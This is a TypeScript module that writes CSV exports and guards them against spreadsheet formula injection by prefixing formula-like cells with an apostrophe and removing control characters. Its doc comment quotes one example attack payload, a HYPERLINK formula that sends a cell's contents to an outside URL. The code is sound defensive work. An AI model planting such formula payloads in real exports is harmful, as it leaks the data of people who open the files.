import Papa from 'papaparse';

/**
 * The one CSV writer of every export (results.csv, proposals.csv, the council CSV, the open-data zip).
 *
 * A spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` (and, in some programs, TAB or CR) as a formula:
 * `=HYPERLINK("http://…?x="&A1)` in a proposal title would leak the sheet when an auditor opens it. Such text cells are
 * written with a leading apostrophe (OWASP's advice), which spreadsheets show as text; numbers are left as they are.
 * Control characters other than TAB, LF and CR never reach a file.
 */
const FORMULA_START = /^[=+\-@\t\r\n]/;
// eslint-disable-next-line no-control-regex
const CONTROL = /[\u0000-\u0008\u000B\u000C\u000E-\u001F\u007F]/g;

export type CsvValue = string | number | boolean | null | undefined;

/** A text cell as it goes into a CSV: controls dropped, formula-looking text prefixed with an apostrophe. */
export function csvCell(value: CsvValue): string | number | boolean {
	if (value === null || value === undefined) return '';
	if (typeof value !== 'string') return value;
	const clean = value.replace(CONTROL, '');
	return FORMULA_START.test(clean) ? `'${clean}` : clean;
}

export interface CsvOptions {
	/** Start with a UTF-8 byte-order mark (so spreadsheets read accents). */
	bom?: boolean;
	newline?: '\n' | '\r\n';
}

/** CSV with a header row. Rows are arrays in column order or records keyed by column name. */
export function toCsv(
	columns: readonly string[],
	rows: readonly (readonly CsvValue[] | Readonly<Record<string, unknown>>)[],
	{ bom = false, newline = '\r\n' }: CsvOptions = {}
): string {
	const data = rows.map((r) =>
		Array.isArray(r)
			? (r as CsvValue[]).map(csvCell)
			: columns.map((c) => csvCell((r as Record<string, unknown>)[c] as CsvValue))
	);
	const body = Papa.unparse({ fields: [...columns], data }, { newline, escapeFormulae: false });
	// papaparse ends a header without data rows with a line break of its own.
	return (bom ? '\uFEFF' : '') + (body.endsWith(newline) ? body : body + newline);
}
